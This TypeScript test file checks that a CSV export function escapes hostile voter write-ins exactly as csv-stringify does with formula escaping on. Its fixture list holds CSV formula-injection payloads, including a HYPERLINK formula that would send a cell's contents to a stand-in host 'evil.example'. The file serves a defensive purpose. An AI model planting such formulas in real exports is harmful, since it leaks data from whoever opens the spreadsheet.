import { stringify } from 'csv-stringify/sync';
import { describe, expect, it } from 'vitest';
import { csvLine } from '../../../src/results/export/csv.ts';

/** One cell as csvLine writes it: a line of that cell alone, without its CRLF. */
const csvCell = (value: string | number | null | undefined): string => csvLine([value]).slice(0, -2);

/** csv-stringify with the options the product's CSV has always been written with: the reference. */
const reference = (values: ReadonlyArray<string | number | null | undefined>) =>
  stringify([[...values]], { record_delimiter: '\r\n', quote_record_delimiter: true, escape_formulas: true });

/** Cells a voter could type: formulas, their full-width forms, tab- and CR-prefixed text, quotes, commas, line breaks, numbers. */
const HOSTILE = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Dr. Smith")',
  '+1',
  '-1',
  '@x',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  'Jane "JJ" Doe',
  '"',
  '""',
  'Smith, Jane',
  'two\nlines',
  'a\rb',
  'ends with CR\r',
  'Smith,\r\nJohn',
  ' spaced ',
  "'already quoted",
  'Ünïcödé 名前 🙂',
  '',
  -4,
  0,
  3.5,
  -0.25,
  1e21,
  null,
  undefined,
];

describe('CSV: plain cells written directly, every other through csv-stringify, the same as csv-stringify writes a whole line', () => {
  it.each(HOSTILE.map((value) => [value]))('writes %j exactly as csv-stringify does', (value) => {
    expect(csvLine([value])).toBe(reference([value]));
    expect(csvCell(value)).toBe(reference([value]).slice(0, -2));
  });

  it('writes whole lines of mixed cells exactly as csv-stringify does', () => {
    // A fixed pseudo-random walk over the hostile cells: the same lines every run.
    let seed = 7;
    const next = () => (seed = (seed * 1103515245 + 12345) % 2147483648);
    for (let n = 0; n < 500; n++) {
      const line = Array.from({ length: 1 + (next() % 9) }, () => HOSTILE[next() % HOSTILE.length]);
      expect(csvLine(line)).toBe(reference(line));
    }
  });

  it('gives every formula-like write-in a leading quote mark inside the cell', () => {
    expect(csvLine(['=HYPERLINK("x","y")', '+1', '-1', '@x', '\tx'])).toBe(`"'=HYPERLINK(""x"",""y"")",'+1,'-1,'@x,'\tx\r\n`);
  });
});
